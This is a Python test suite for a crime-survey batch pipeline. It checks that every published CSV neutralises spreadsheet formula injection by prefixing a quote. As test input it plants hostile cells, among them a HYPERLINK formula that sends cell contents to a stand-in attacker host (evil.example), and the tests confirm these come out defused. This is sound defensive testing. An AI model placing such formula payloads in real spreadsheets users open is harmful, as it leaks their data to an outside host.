"""Every CSV a run publishes is safe to open in a spreadsheet: a text cell that would start a
formula (= + - @, tab, CR: the OWASP CSV-injection rule) gets a leading quote, whichever
notebook or module wrote it.  A real batch run (ingest, victimization, repeat, risk and the
small-area step) over a generated survey whose SPSS value label, crime label and area names are
hostile; then the one publishing helper and the semantic writers on their own."""

from __future__ import annotations

import contextlib
import csv
import io
from pathlib import Path

import pandas as pd
import pytest
import yaml

ROOT = Path(__file__).resolve().parents[1]
HOSTILE_LABEL = '=HYPERLINK("http://evil.example/?"&A1,"Social renter")'
HOSTILE_CRIME = "+Domestic burglary"
HOSTILE_AREA = "@North"
START = ("=", "+", "-", "@", "\t", "\r")


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def formula_cells(path: Path) -> list[str]:
    """The cells of a CSV (header included) that a spreadsheet would run: text starting with
    = + - @, tab or CR (numbers such as -0.5 are numbers)."""
    with open(path, newline="", encoding="utf-8") as fh:
        return [c for row in csv.reader(fh) for c in row if c.startswith(START) and not _number(c)]


@pytest.fixture(scope="module")
def run(tmp_path_factory):
    import pyreadstat

    from survey.batch import batch_main
    from survey.synth import synth, write_area_covariates

    root = tmp_path_factory.mktemp("hostilecsv")
    (root / "pyproject.toml").write_text("")
    data = root / "data" / "synthetic"
    synth(data, households=1200, seed=2)
    changed = 0
    for sav in sorted(data.glob("*.sav")):  # a value label of the SPSS files (tenure: households and persons)
        df, meta = pyreadstat.read_sav(sav, apply_value_formats=False)
        labels = dict(meta.variable_value_labels)
        if "tenure" in labels:
            labels["tenure"] = {**labels["tenure"], 2.0: HOSTILE_LABEL}
            pyreadstat.write_sav(df, sav, column_labels=meta.column_names_to_labels, variable_value_labels=labels)
            changed += 1
    assert changed
    (root / "specs").mkdir()
    spec = (ROOT / "specs" / "synthetic.yaml").read_text(encoding="utf-8")
    assert "en: Domestic burglary," in spec
    spec = spec.replace("en: Domestic burglary,", f'en: "{HOSTILE_CRIME}",')  # a crime label of the spec
    (root / "specs" / "synthetic.yaml").write_text(spec, encoding="utf-8")
    (root / "parameters" / "areas").mkdir(parents=True)
    aux_path = root / "parameters" / "areas" / "regions.csv"
    write_area_covariates(aux_path, data / "truth.csv", seed=2)
    aux = pd.read_csv(aux_path)
    aux["name"] = [HOSTILE_AREA if a == "North" else a for a in aux["area"]]  # the area names shown
    aux.to_csv(aux_path, index=False)
    raw = {"name": "hostile", "spec": "specs/synthetic.yaml", "period": "Synthetic year", "language": "en",
           "domains": ["tenure", "region"], "crime_types": ["household", "burglary"], "publication": "none",
           "notebooks": ["ingest", "victimization", "repeat", "risk"], "risk_crime_types": ["household"],
           "risk_predictors": ["tenure"], "seed": 1,
           "small_areas": {"indicator": "prevalence", "crime_type": "household", "area": "region",
                           "auxiliary": "areas/regions.csv", "area_label": "name",
                           "covariates": ["recorded_household_per_1000"], "method": "REML"}}
    path = root / "parameters" / "hostile.yaml"
    path.write_text(yaml.safe_dump(raw, allow_unicode=True), encoding="utf-8")
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = batch_main([str(path), "--root", str(root), "--notebook-dir", str(ROOT / "notebooks"), "--no-progress"])
    assert code == 0, out.getvalue() + err.getvalue()
    return root / "outputs" / "hostile"


def test_every_csv_of_the_run_is_neutralized(run):
    files = sorted(run.rglob("*.csv"))
    names = {p.name for p in files}
    assert {"indicators.csv", "accounting.csv", "codebook.csv", "risk_models.csv", "risk_margins.csv",
            "small_areas.csv", "lorenz.csv"} <= names, names
    bad = {p.name: cells[:3] for p in files if (cells := formula_cells(p))}
    assert not bad, f"formula cells left: {bad}"


def test_the_hostile_labels_are_there_as_quoted_text(run):
    """The hostile values reach the CSVs (the test is not empty) with a leading quote, and the
    values stay readable: the quote is the only change."""
    def cells(name):
        with open(run / name, newline="", encoding="utf-8") as fh:
            return {c for row in csv.reader(fh) for c in row}

    ind = cells("indicators.csv")
    assert "'" + HOSTILE_LABEL in ind and "'" + HOSTILE_CRIME in ind
    assert "'" + HOSTILE_LABEL in cells("codebook.csv")  # the SPSS value label, as the codebook lists it
    assert "'" + HOSTILE_AREA in cells("small_areas.csv")
    assert any(c.startswith("'" + HOSTILE_LABEL) or ("'" + HOSTILE_LABEL) in c or HOSTILE_LABEL in c
               for c in cells("risk_models.csv") | cells("risk_margins.csv"))
    t = pd.read_csv(run / "small_areas.csv")
    assert (t["area_label"] == "'" + HOSTILE_AREA).sum() == 1 and (t["eblup"].dropna() > 0).all()


def test_the_publishing_helper_and_the_semantic_writers(tmp_path):
    from survey import evaluation, sae
    from survey.report import publish_csv

    frame = pd.DataFrame({"label": ["=1+1", "+cmd", "-x", "@SUM(A1)", "\tx", "plain"], "value": [-1.5, 2, 3, 4, 5, 6],
                          "=col": ["a"] * 6})
    for name, write in (("publish", publish_csv), ("sae", sae.write_csv), ("evaluation", evaluation.write_csv)):
        path = tmp_path / f"{name}.csv"
        write(frame, path)
        raw = path.read_bytes()
        assert b"\r\n" not in raw
        back = pd.read_csv(path, keep_default_na=False)
        assert list(back.iloc[:, 0]) == ["'=1+1", "'+cmd", "'-x", "'@SUM(A1)", "'\tx", "plain"]
        assert list(back.columns) == ["label", "value", "'=col"]
        assert back["value"].tolist() == [-1.5, 2, 3, 4, 5, 6]  # numbers stay numbers
        assert not formula_cells(path)
        assert not list(tmp_path.glob(".*"))  # no temporary file left
